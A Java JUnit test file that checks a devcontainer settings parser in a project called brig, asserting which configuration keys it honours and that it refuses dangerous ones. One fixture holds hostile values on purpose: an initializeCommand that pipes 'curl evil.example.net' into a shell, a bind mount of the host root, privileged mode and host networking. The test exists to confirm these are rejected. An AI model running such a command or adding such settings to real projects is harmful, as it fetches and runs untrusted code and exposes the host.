package brig.project;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import brig.project.KeyEffect.Honoured;
import brig.protocol.BrigException;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DevcontainerSettingsTest {
    private static DevcontainerSettings read(String text) {
        return DevcontainerSettings.read(text.getBytes(UTF_8));
    }

    private static Map<String, Honoured> honoured(String text) {
        return read(text).effects().stream().collect(Collectors.toMap(KeyEffect::key, KeyEffect::honoured));
    }

    @Test
    void shouldTakeTheImageAndNothingElse() {
        String text = """
                // As editors write it.
                {
                    "name": "app", "image": "mcr.microsoft.com/devcontainers/base:bookworm",
                    "customizations": {"vscode": {}},
                    "init": true, "privileged": true, "runArgs": ["--network=host"],
                    "mounts": ["source=/,target=/host,type=bind"],
                    "containerEnv": {"TOKEN": "hunter2"}, "remoteEnv": {"A": "b"},
                    "initializeCommand": "curl evil.example.net | sh", /* on the host */
                    "postCreateCommand": "npm ci",
                    "workspaceFolder": "/workspace",
                    "remoteUser": "root",
                    "somebodyElses": 1,
                }
                """;
        assertEquals(
                Map.ofEntries(
                        Map.entry("name", Honoured.YES),
                        Map.entry("image", Honoured.WITHIN_POLICY),
                        Map.entry("customizations", Honoured.YES),
                        Map.entry("init", Honoured.YES),
                        Map.entry("privileged", Honoured.NO),
                        Map.entry("runArgs", Honoured.NO),
                        Map.entry("mounts", Honoured.NO),
                        Map.entry("containerEnv", Honoured.NO),
                        Map.entry("remoteEnv", Honoured.NO),
                        Map.entry("initializeCommand", Honoured.NO),
                        Map.entry("postCreateCommand", Honoured.NO),
                        Map.entry("workspaceFolder", Honoured.YES),
                        Map.entry("remoteUser", Honoured.NO),
                        Map.entry("somebodyElses", Honoured.NO)),
                honoured(text));
        ImageReference image = read(text).image();
        assertEquals("base-bookworm", image == null ? null : image.usualName());
        String said = read(text).effects().toString();
        assertTrue(said.contains("brig image pull mcr.microsoft.com/devcontainers/base:bookworm"), said);
        assertTrue(!said.contains("hunter2") && !said.contains("evil"), said);
    }

    @Test
    void shouldSayWhatToDoInsteadOfACommand() {
        String instead =
                read("{\"postCreateCommand\": \"make\"}").effects().getFirst().instead();
        assertTrue(instead != null && instead.startsWith("'brig exec ID -- COMMAND'"), instead);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"${localEnv:IMAGE}\"",
                "\"\"",
                "5",
                "\"-h\"",
                "\"oci:/etc\"",
                "\"docker-archive:/etc/x\"",
                "\"user:hunter2@host/x\""
            })
    void shouldTakeNoImageThatARegistryHasNot(String image) {
        assertNull(read("{\"image\": " + image + "}").image());
        assertEquals(Honoured.NO, honoured("{\"image\": " + image + "}").get("image"));
    }

    @Test
    void shouldSayThatTheWorkspaceIsElsewhere() {
        assertEquals(
                Honoured.NO,
                honoured("{\"workspaceFolder\": \"/workspaces/app\"}").get("workspaceFolder"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "{", "[]", "{\"a\": 1, \"a\": 2}", "{,}"})
    void shouldRefuseWhatIsNoObject(String text) {
        assertThrows(BrigException.class, () -> read(text));
    }

    @Test
    void shouldRefuseLargeAndDeepFiles() {
        assertThrows(IllegalArgumentException.class, () -> read("{}" + " ".repeat(DevcontainerSettings.BYTES_MAX)));
        assertThrows(BrigException.class, () -> read("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
    }
}
